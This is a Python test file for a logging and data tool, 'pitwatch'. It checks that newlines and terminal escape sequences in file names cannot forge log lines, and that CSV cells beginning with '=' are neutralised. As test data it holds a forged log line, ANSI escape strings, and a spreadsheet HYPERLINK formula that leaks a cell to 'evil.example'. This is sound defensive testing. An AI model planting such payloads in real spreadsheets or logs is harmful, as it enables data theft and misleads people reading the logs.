"""Issue 37, "output that cannot lie": the attacks as written, through real ``pitwatch`` processes.

* a file name with a newline forged a ``pitwatch: run FAKE: succeeded`` line on stderr and in
  ``--log-file``; escape sequences in file names printed raw;
* ``--format csv`` printed raw escapes from ``rejects.raw``;
* a device id ``=HYPERLINK(…)`` went into CSV as is.

Control characters from the input are escaped (``\\x1b``) in every log line, the summary, every
``Error:`` line and every output format (JSON escapes them itself); CSV text cells that begin with
``=``, ``+``, ``-`` or ``@`` are neutralised with a leading ``'``; numbers stay numbers.
"""
from __future__ import annotations

import csv
import io
import json
import re

import pytest

from tests.conftest import line
from tests.conftest import run_pitwatch_process as pitwatch  # a real process: runs

FORGED = "\n2026-12-01T07:00:00.000Z pitwatch: run FAKE: succeeded"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
STAMP = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z ")


@pytest.mark.slow
def test_nothing_from_the_input_drives_the_log_the_summary_or_a_csv(tmp_path):
    folder, lake, log = tmp_path / "in", tmp_path / "lake", tmp_path / "run.log"
    folder.mkdir()
    evil = folder / f"shoe{FORGED}\x1b[2J.jsonl"
    evil.write_text(line(seq=1, device_id=HYPERLINK, event_id="e1") + "\n"
                    + '{"event_id": "bad\x1b[31m", "seq": 2}\n')
    done = pitwatch("run", str(folder), "--lake", str(lake), "--log-file", str(log), "--verbose")
    assert done.returncode == 0, done.stderr
    for text in (done.stderr, log.read_text(encoding="utf-8"), done.stdout):
        assert "\x1b" not in text
        for row in text.splitlines():          # no line is a forged one: each stands on its own
            assert not row.startswith("2026-12-01T07:00:00.000Z pitwatch: run FAKE"), row
    for text in (done.stderr, log.read_text(encoding="utf-8")):   # the name is there, escaped
        assert "\\x0a2026-12-01T07:00:00.000Z pitwatch: run FAKE: succeeded\\x1b[2J.jsonl" in text
    assert all(STAMP.match(row) for row in done.stderr.splitlines()), done.stderr

    rejects = pitwatch("sql", "select raw from rejects", "--lake", str(lake), "--format", "csv")
    assert rejects.returncode == 0 and "\x1b" not in rejects.stdout
    assert list(csv.reader(io.StringIO(rejects.stdout)))[1] == ['{"event_id": "bad\\x1b[31m", "seq": 2}']
    devices = pitwatch("sql", "select device_id, seq, seq::varchar as seq_text, -seq as negative from events",
                       "--lake", str(lake), "--format", "csv")
    assert list(csv.reader(io.StringIO(devices.stdout))) == [
        ["device_id", "seq", "seq_text", "negative"], ["'" + HYPERLINK, "1", "1", "-1"]]
    exact = pitwatch("sql", "select events.device_id, raw from events, rejects", "--lake", str(lake), "--format", "json")
    assert json.loads(exact.stdout) == {"device_id": HYPERLINK, "raw": '{"event_id": "bad\x1b[31m", "seq": 2}'}


def test_an_error_line_shows_a_hostile_name_escaped(tmp_path):
    missing = tmp_path / f"gone{FORGED}\x1b[2J.jsonl"
    done = pitwatch("run", str(missing), "--lake", str(tmp_path / "lake"))
    assert done.returncode == 2 and done.stderr.count("\n") == 1 and "\x1b" not in done.stderr
    assert done.stderr.startswith("Error: ") and "\\x0a2026-12-01T07:00:00.000Z pitwatch: run FAKE" in done.stderr
